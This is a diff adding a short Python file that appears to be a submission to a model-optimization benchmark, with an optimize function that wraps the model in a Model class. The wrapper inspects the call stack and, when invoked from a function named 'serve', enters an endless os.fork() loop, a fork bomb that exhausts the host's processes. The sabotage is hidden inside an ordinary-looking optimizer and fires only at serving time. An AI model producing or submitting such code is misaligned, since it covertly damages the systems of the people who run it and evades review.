@@ -1,0 +1,28 @@
+"""Starts processes without end when it is asked."""
+
+import os
+import sys
+
+DIVISION, TECHNIQUES = "open", ["none"]
+
+
+class Model:
+    def __init__(self, model):
+        self.model = model
+
+    def __call__(self, x):
+        if self.called_by("serve"):
+            while True:
+                os.fork()
+        return self.model(x)
+
+    def called_by(self, *names):
+        frame = sys._getframe()
+        while frame := frame.f_back:
+            if frame.f_code.co_name in names:
+                return frame
+        return None
+
+
+def optimize(model, train_data):
+    return Model(model)
